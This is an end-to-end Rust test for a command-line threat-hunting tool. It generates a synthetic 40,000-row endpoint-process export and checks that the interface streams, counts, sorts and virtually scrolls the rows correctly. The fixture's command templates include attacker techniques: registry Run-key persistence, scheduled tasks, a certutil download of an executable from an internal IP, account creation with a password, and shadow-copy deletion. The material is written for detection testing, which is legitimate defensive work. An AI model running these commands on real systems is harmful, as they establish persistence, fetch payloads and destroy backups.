//! Many rows: a generated Defender-shaped export of 40,000 records (about
//! half of them flagged, written by the test, deterministic) streams in
//! through the workers, the count matches the core, only a screenful of rows
//! is in the DOM, and the first and last rows of two sort orders match the
//! core's (scrolling to the bottom of the virtual table).

use cmdhunt_core::results::Window;
use cmdhunt_e2e::page::Page;
use cmdhunt_e2e::reference::{cell_texts, sort_key, sorted, Direction, Reference};
use cmdhunt_e2e::tmp::TempDir;
use cmdhunt_e2e::{ensure, ensure_eq, on_both_targets, Error};

const RECORDS: u64 = 40_000;
/// Rows compared at each end of the table.
const EDGE: usize = 30;

/// The export: 7 s apart (with jitter) from 2024-05-01, 500 devices (some
/// unnamed), flagged patterns, suspicious parents and harmless commands mixed.
pub(crate) fn generated_csv() -> String {
    let commands = [
        "cmd.exe /c reg add HKCU\\Software\\Run /v u{n} /d c:\\u{n}.exe /f",
        "cmd.exe /c schtasks /create /tn t{n} /tr c:\\t.exe /sc daily",
        "cmd.exe /c certutil -urlcache -f http://10.0.0.{d}/a a.exe",
        "cmd.exe /c net user /add svc{n} P@ss{n}",
        "cmd.exe /c vssadmin delete shadows /all /quiet",
        "cmd.exe /c whoami /all",
        "cmd.exe /c dir c:\\users\\u{n}",
        "cmd.exe /c ipconfig /all",
    ];
    let parents = [
        "explorer.exe",
        "winword.exe",
        "services.exe",
        "mshta.exe",
        "svchost.exe",
    ];
    let mut x: u64 = 0x2545_F491_4F6C_DD1D;
    let mut next = move || {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        x
    };
    let mut out = String::from(
        "Timestamp,DeviceName,AccountName,FileName,ProcessCommandLine,InitiatingProcessFileName,InitiatingProcessCommandLine\n",
    );
    for n in 0..RECORDS {
        let r = next();
        let secs = n * 7 + r % 7;
        let (day, rest) = (1 + secs / 86_400, secs % 86_400);
        let time = format!(
            "2024-05-{day:02}T{:02}:{:02}:{:02}Z",
            rest / 3600,
            rest % 3600 / 60,
            rest % 60
        );
        let d = (r >> 8) % 500;
        let device = if d % 97 == 0 {
            String::new()
        } else {
            format!("WS-{d:03}.corp")
        };
        let account = format!("user{}", (r >> 20) % 300);
        let file = if (r >> 30) % 10 == 0 {
            "powershell.exe"
        } else {
            "cmd.exe"
        };
        let cmd = commands[((r >> 34) % commands.len() as u64) as usize]
            .replace("{n}", &n.to_string())
            .replace("{d}", &d.to_string());
        let parent = parents[((r >> 40) % parents.len() as u64) as usize];
        out.push_str(&format!(
            "{time},{device},{account},{file},{cmd},{parent},{parent} -x\n"
        ));
    }
    out
}

async fn check_edges(
    page: &Page,
    reference: &Reference,
    col: usize,
    direction: Direction,
) -> Result<(), Error> {
    let all = reference.select(&Window::All);
    let want = sorted(&all, col, direction);
    let total = want.len();
    let first = page.first_rows(EDGE).await?;
    let last = page.rows_range(total - EDGE, total).await?;
    let got: Vec<String> = first
        .iter()
        .chain(&last)
        .map(|c| c.get(col).cloned().unwrap_or_default())
        .collect();
    let exp: Vec<String> = want[..EDGE]
        .iter()
        .chain(&want[total - EDGE..])
        .map(|r| sort_key(r, col))
        .collect();
    ensure_eq!(
        got,
        exp,
        "column {col} {} at both ends of {total} rows",
        direction.aria()
    );
    if col == 0 {
        // Unique times: whole rows are determined.
        let cells: Vec<Vec<String>> = want[..EDGE].iter().map(|r| cell_texts(r)).collect();
        ensure_eq!(first, cells, "the first rows, whole");
    }
    Ok(())
}

async fn many_rows_stream_sort_and_scroll(page: &Page) -> Result<(), Error> {
    let dir = TempDir::new("volume")?;
    let file = dir.write("generated_40k.csv", generated_csv().as_bytes())?;
    let reference = Reference::scan_one(&file)?;
    let total = reference.count_all_time();
    ensure!(
        total > 15_000,
        "the generated file should flag many rows ({total})"
    );

    page.upload(std::slice::from_ref(&file)).await?;
    ensure_eq!(
        page.settled_count().await?,
        reference.count_default_window(),
        "rows in the rule's 24 h window"
    );
    page.choose_window("all").await?;
    ensure_eq!(page.settled_count().await?, total, "rows, all time");
    let in_dom = page.rendered_rows().await?.len();
    ensure!(
        in_dom > 0 && in_dom < 100,
        "virtual rows: {in_dom} of {total} in the DOM"
    );

    check_edges(page, &reference, 0, Direction::Descending).await?;
    page.sort_by(1, "ascending").await?;
    check_edges(page, &reference, 1, Direction::Ascending).await?;
    page.sort_by(0, "descending").await?;
    page.toggle_chip("UserCreation", true).await?;
    ensure_eq!(
        page.settled_count().await?,
        reference.count_with_flag(2),
        "rows with UserCreation"
    );
    Ok(())
}

on_both_targets!(many_rows_stream_sort_and_scroll);
